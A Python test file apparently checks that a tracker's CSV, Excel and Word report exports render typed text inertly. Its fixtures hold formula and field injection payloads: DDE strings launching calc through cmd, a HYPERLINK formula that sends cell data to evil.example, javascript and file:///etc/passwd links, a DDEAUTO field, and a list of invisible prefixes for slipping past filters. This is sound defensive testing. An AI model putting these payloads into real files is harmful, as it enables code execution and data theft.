"""No file to take away runs anything: whatever was typed arrives as words, in every column and on every sheet."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest

from tests.reports.sample import make_hostile_report
from tracker.domain.board_report import BoardReport
from tracker.reports.render_csv import render_csv
from tracker.reports.render_docx import render_docx
from tracker.reports.render_xlsx import render_xlsx

SIGNS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "wide equals": "\uff1d",
    "wide plus": "\uff0b",
    "wide minus": "\uff0d",
    "wide at": "\uff20",
    "small equals": "\ufe66",
    "small plus": "\ufe62",
}
BEFORE = {
    "nothing": "",
    "a blank": " ",
    "a hard blank": "\u00a0",
    "a wide blank": "\u3000",
    "a tab": "\t",
    "a line end": "\r",
    "two line ends": "\r\n\n",
    "a byte order mark": "\ufeff",
    "a blank of no width": "\u200b",
    "a mark of direction": "\u200e",
    "a turning mark": "\u202e",
    "a soft hyphen": "\u00ad",
    "a filler of Hangul": "\u3164",
    "a filler of half a width": "\uffa0",
    "a quote": '"',
    "an apostrophe": "'",
    "several": ' \u200b"\ufeff ',
}
COMMANDS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "1+1")
ATTACKS = {
    f"{sign} after {before}": f"{BEFORE[before]}{SIGNS[sign]}{COMMANDS[number % 3]}"
    for number, (sign, before) in enumerate((sign, before) for sign in SIGNS for before in BEFORE)
}
# What a spreadsheet could take for the beginning of a formula: asked in another way than the file is made.
PASSED_OVER = " \t\r\n\u00a0\u3000\ufeff\u200b\u200e\u202e\u00ad\u3164\uffa0\"'"


def is_live(cell: str) -> bool:
    """True where a program could run a cell: a sign that begins a formula, first or behind what it passes over."""
    rest = cell.lstrip(PASSED_OVER.replace("'", ""))
    return not cell.startswith("'") and (rest[:1] in set(SIGNS.values()) or cell[:1] in "\t\r\n")


def report_of(words: str) -> BoardReport:
    """A report in which every typed word is an attack."""
    return make_hostile_report(words)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_cell_of_a_csv_file_begins_a_formula(attack: str) -> None:
    file = render_csv(report_of(attack)).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(file, newline="")))
    attacked = [cell for row in rows[1:] for cell in row if attack[-3:] in cell]

    assert len(attacked) > 20
    assert [cell for row in rows for cell in row if cell and is_live(cell)] == []


@pytest.mark.parametrize("before", BEFORE.values(), ids=BEFORE)
@pytest.mark.parametrize("cut", [";", "\n", "; then "], ids=["semicolon", "line end", "words between"])
def test_no_stretch_begins_a_formula_where_a_spreadsheet_cuts_at_semicolons(cut: str, before: str) -> None:
    # A quote is not one for such a program where it does not begin a cell.
    attacks = [
        f"Agreed{cut.removesuffix(' then ')}{before}{sign}{command}"
        for sign in SIGNS.values()
        for command in COMMANDS[:2]
    ]
    file = "\n".join(render_csv(report_of(attack)).decode("utf-8-sig") for attack in attacks)

    cells = [cell for line in file.splitlines() for cell in next(csv.reader([line], delimiter=";"), [])]

    # A tab or a line end in front is passed over, and an apostrophe behind it is seen.
    live = [cell for cell in cells if cell.strip() and is_live(cell.lstrip("\t\r\n "))]
    assert len(cells) > 1000
    assert live == []


@pytest.mark.parametrize("sign", SIGNS.values(), ids=SIGNS)
def test_no_sheet_of_a_workbook_holds_a_formula_a_link_or_a_way_out(sign: str) -> None:
    attack = f"{sign}cmd|' /C calc'!A0 javascript:alert(1) file:///etc/passwd"

    file = render_xlsx(report_of(attack))

    parts = {name: zipfile.ZipFile(io.BytesIO(file)).read(name).decode() for name in _parts(file)}
    for name, part in parts.items():
        assert re.search("<f[ >]|<hyperlink|<ddeLink|<oleLink|TargetMode", part) is None, name
        assert re.search("externalLink|vbaProject|connections", name) is None
    book = openpyxl.load_workbook(io.BytesIO(file))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    typed = [cell for cell in cells if "calc" in str(cell.value)]
    assert len(typed) > 20
    assert {cell.data_type for cell in typed} == {"s"}


def test_a_paper_in_word_holds_no_field_and_no_link_that_somebody_typed() -> None:
    attack = (
        '{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" } HYPERLINK "javascript:alert(1)" https://evil.example/'
    )

    file = render_docx(report_of(attack))

    archive = zipfile.ZipFile(io.BytesIO(file))
    fields = [
        field.strip()
        for name in _parts(file)
        for field in re.findall(r'<w:instrText[^>]*>([^<]*)|w:instr="([^"]*)"', archive.read(name).decode())
        for field in field
        if field.strip()
    ]
    assert {field.split()[0] for field in fields} <= {"PAGE", "NUMPAGES", "TOC", "PAGEREF"}
    ways_out = [name for name in _parts(file) if b'TargetMode="External"' in archive.read(name)]
    assert ways_out == []


def _parts(file: bytes) -> list[str]:
    names = zipfile.ZipFile(io.BytesIO(file)).namelist()
    return [name for name in names if name.endswith((".xml", ".rels"))]
